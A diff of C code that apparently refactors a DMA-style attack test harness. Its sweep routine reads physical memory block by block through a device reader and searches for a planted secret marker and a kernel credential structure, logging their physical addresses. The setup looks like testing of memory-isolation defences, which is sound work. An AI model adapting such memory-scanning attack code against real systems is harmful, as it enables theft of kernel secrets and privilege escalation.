@@ -23,12 +23,8 @@
 
 #define BLOCK (64u << 10)
 
-struct found {
-	uint64_t secret, cred;	/* bus addresses, 0: not found */
-};
-
 static void search(const uint8_t *blk, size_t n, uint64_t base,
-		   struct found *f)
+		   struct atk_found *f)
 {
 	const size_t ml = strlen(TARGET_SECRET_MAGIC);
 	struct kcred want = { 1, 1000, 1000, 1000, 1000, 1000, 1000, 1000, 1000 };
@@ -52,8 +48,8 @@ static uint64_t ram_top(struct atk_ctx *c)
 	return ram->nr_ranges ? ram->ranges[ram->nr_ranges - 1].end : 0;
 }
 
-static void sweep(struct atk_ctx *c, struct found *f, uint64_t *blocks,
-		  uint64_t *answered)
+void atk_sweep(struct atk_ctx *c, atk_reader rd, struct atk_found *f,
+	       uint64_t *blocks, uint64_t *answered)
 {
 	uint8_t *blk = malloc(BLOCK);
 	uint64_t top = ram_top(c);
@@ -62,7 +58,7 @@ static void sweep(struct atk_ctx *c, struct found *f, uint64_t *blocks,
 	if (!blk)
 		return;
 	for (uint64_t a = 0; a < top && !(f->secret && f->cred); a += BLOCK) {
-		atk_read(c, a, blk, BLOCK, &done);
+		rd(c, a, blk, BLOCK, &done);
 		(*blocks)++;
 		*answered += done != 0;
 		search(blk, done, a, f);
@@ -102,7 +98,7 @@ static size_t probe_tables(struct atk_ctx *c)
 int attack_scan(struct atk_ctx *c)
 {
 	struct targets t;
-	struct found f = { 0, 0 };
+	struct atk_found f = { 0, 0 };
 	uint64_t blocks = 0, answered = 0;
 	uint32_t zero[8] = { 0 };
 	size_t tables;
@@ -118,7 +114,7 @@ int attack_scan(struct atk_ctx *c)
 	atk_did(c, "kernel: secret page at phys 0x%llx, credential at phys 0x%llx (uid %u)",
 		(unsigned long long)targets_phys(&t, t.secret),
 		(unsigned long long)targets_phys(&t, t.cred), t.cred->uid);
-	sweep(c, &f, &blocks, &answered);
+	atk_sweep(c, atk_read, &f, &blocks, &answered);
 	atk_did(c, "device: read %llu blocks of 64 KiB from 0, %llu answered",
 		(unsigned long long)blocks, (unsigned long long)answered);
 	if (f.secret)
